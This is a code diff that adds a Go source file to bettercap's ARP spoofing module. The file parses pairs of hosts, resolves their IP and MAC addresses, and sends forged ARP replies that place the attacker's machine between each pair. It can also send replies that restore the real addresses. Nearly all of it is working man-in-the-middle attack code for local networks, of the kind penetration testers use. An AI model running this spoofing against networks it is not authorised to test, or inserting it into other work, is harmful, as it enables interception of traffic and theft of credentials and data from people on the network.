@@ -0,0 +1,121 @@
+package arp_spoof
+
+import (
+	"fmt"
+	"net"
+	"strings"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/evilsocket/islazy/str"
+)
+
+const pairSeparator = "<>"
+
+// hostPair is a couple of hosts whose connections with each other are
+// spoofed in internal mode, each side being an address, a MAC address, an
+// alias or a host name.
+type hostPair struct {
+	a string
+	b string
+}
+
+func (p hostPair) String() string {
+	return p.a + pairSeparator + p.b
+}
+
+func parsePairs(list string) ([]hostPair, error) {
+	pairs := make([]hostPair, 0)
+	for _, token := range str.Comma(list) {
+		parts := strings.Split(token, pairSeparator)
+		if len(parts) != 2 {
+			return nil, fmt.Errorf("invalid pair '%s', expected host%shost", token, pairSeparator)
+		}
+
+		a, b := str.Trim(parts[0]), str.Trim(parts[1])
+		if a == "" || b == "" {
+			return nil, fmt.Errorf("invalid pair '%s', expected host%shost", token, pairSeparator)
+		} else if strings.EqualFold(a, b) {
+			return nil, fmt.Errorf("invalid pair '%s', both sides are the same host", token)
+		}
+		pairs = append(pairs, hostPair{a: a, b: b})
+	}
+	return pairs, nil
+}
+
+// resolveHost returns the current IPv4 and MAC addresses of one side of a
+// pair, names and MAC addresses are resolved every time as the host might
+// change address.
+func (mod *ArpSpoofer) resolveHost(host string, probe bool) (net.IP, net.HardwareAddr, error) {
+	if ip := net.ParseIP(host); ip != nil {
+		if ip = ip.To4(); ip == nil {
+			return nil, nil, fmt.Errorf("%s is not an IPv4 address", host)
+		}
+		hw, err := mod.Session.FindMAC(ip, probe)
+		return ip, hw, err
+	} else if hw, err := net.ParseMAC(host); err == nil {
+		if ip, err := network.ArpInverseLookup(mod.Session.Interface.Name(), hw.String(), false); err == nil {
+			return net.ParseIP(ip).To4(), hw, nil
+		}
+		return nil, nil, fmt.Errorf("address of %s unknown", host)
+	}
+
+	// aliases are matched as well
+	for _, e := range mod.Session.Lan.FindByName(host) {
+		if e.IP.To4() != nil {
+			return e.IP.To4(), e.HW, nil
+		}
+	}
+
+	return nil, nil, fmt.Errorf("no endpoint named %s found", host)
+}
+
+// spoofPairs tells each side of every pair that the other one is at
+// pairMAC, which is ours while spoofing and the real one when restoring.
+func (mod *ArpSpoofer) spoofPairs(restore bool) {
+	mod.waitGroup.Add(1)
+	defer mod.waitGroup.Done()
+
+	for _, pair := range mod.pairs {
+		if !restore && !mod.Running() {
+			return
+		}
+
+		aIP, aHW, err := mod.resolveHost(pair.a, restore)
+		if err != nil {
+			mod.Debug("skipping pair %s: %v", pair, err)
+			continue
+		}
+		bIP, bHW, err := mod.resolveHost(pair.b, restore)
+		if err != nil {
+			mod.Debug("skipping pair %s: %v", pair, err)
+			continue
+		} else if mod.isWhitelisted(aIP.String(), aHW) || mod.isWhitelisted(bIP.String(), bHW) {
+			mod.Debug("pair %s is whitelisted, skipping", pair)
+			continue
+		}
+
+		// what a is told about b and b about a
+		aSees, bSees := mod.Session.Interface.HW, mod.Session.Interface.HW
+		if restore {
+			aSees, bSees = bHW, aHW
+		}
+
+		for _, reply := range []struct {
+			srcIP net.IP
+			srcHW net.HardwareAddr
+			dstIP net.IP
+			dstHW net.HardwareAddr
+		}{
+			{bIP, aSees, aIP, aHW},
+			{aIP, bSees, bIP, bHW},
+		} {
+			if err, pkt := packets.NewARPReply(reply.srcIP, reply.srcHW, reply.dstIP, reply.dstHW); err != nil {
+				mod.Error("error while creating ARP spoof packet for %s: %s", reply.dstIP, err)
+			} else if err = mod.Session.Queue.Send(pkt); err != nil {
+				mod.Error("error while sending packet: %v", err)
+			}
+		}
+	}
+}